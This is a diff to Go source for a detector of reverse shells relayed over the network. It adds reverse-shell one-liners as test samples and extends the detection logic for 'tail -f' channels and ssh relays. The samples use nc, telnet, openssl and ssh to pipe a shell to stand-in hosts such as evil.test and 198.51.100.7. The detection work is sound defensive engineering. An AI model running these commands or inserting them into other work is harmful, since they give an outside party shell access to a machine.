@@ -35,9 +35,10 @@ var shellNetRelay = Detector{
 		"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect evil.test:443 > /tmp/s",
 		"mknod /tmp/b p; telnet 198.51.100.7 4444 0</tmp/b | /bin/bash 1>/tmp/b",
 		"TF=$(mktemp -u); mkfifo $TF && telnet 198.51.100.7 99 0<$TF | sh 1>$TF",
+		"ssh a@198.51.100.7 'tail -f in' | bash | ssh a@198.51.100.7 'cat > out'",
 		"mkfifo x; nc 198.51.100.7 9 <x | bash >x 2>&1",
 		"cp /bin/nc /tmp/n; mkfifo /tmp/f; /bin/bash < /tmp/f | /tmp/n 198.51.100.7 1 > /tmp/f",
-	), Sample{Level: coi.High, Events: graphSample(
+	), Sample{Level: coi.High, Line: "tail -f /mnt/s/in | bash 2>&1 | nc 198.51.100.7 99"}, Sample{Level: coi.High, Events: graphSample(
 		wiring.Node{PID: 2, Class: "interpreter", Argv: []string{"node", "-e", "x"}, FDs: []wiring.FD{
 			{N: 10, Kind: wiring.Pipe, ID: "1", Write: true}, {N: 11, Kind: wiring.Pipe, ID: "2", Read: true}, outSock(12, "s"),
 		}},
@@ -68,6 +69,9 @@ func predictedRelay(v track.View) []Finding {
 		}
 		in := reach(c, s, true)
 		out := reach(c, s, false)
+		if out != nil && in == nil && s.Class() == program.Shell && out.Class() == program.Relay && outHost(out) != "" && !loopbackOnly(out) && slices.ContainsFunc(s.Stdin, follows) {
+			return one(*say(s, coi.High, "shell that follows a file answers to the network").to(outHost(out)))
+		}
 		if in == nil || out == nil {
 			continue
 		}
@@ -79,6 +83,9 @@ func predictedRelay(v track.View) []Finding {
 	}
 	return nil
 }
+
+// follows reports tail -f, by which a file is a channel.
+func follows(s *command.Simple) bool { return s.Name == "tail" && s.Parsed().Has("f", "F", "follow") }
 
 // reach follows pipes and files from a command to a network tool: upstream, or
 // downstream.
@@ -92,7 +99,7 @@ func reach(c *command.Command, s *command.Simple, up bool) *command.Simple {
 				if seen[b] || !flows(b, a) && up || !flows(a, b) && !up {
 					continue
 				}
-				if b.Class() == program.Relay {
+				if b.Class() == program.Relay || b.Name == "ssh" && len(b.Parsed().Rest) > 1 {
 					return b
 				}
 				seen[b] = true
@@ -107,7 +114,7 @@ func reach(c *command.Command, s *command.Simple, up bool) *command.Simple {
 // flows reports whether the output of a reaches b: by pipe, or by a file that a
 // writes and b reads.
 func flows(a, b *command.Simple) bool {
-	if slices.Contains(b.Stdin, a) {
+	if slices.Contains(b.Stdin, a) || a.Parent != nil && a.FDs[1] == "pipe" && slices.Contains(b.Stdin, a.Parent) {
 		return true
 	}
 	outs := map[string]bool{}
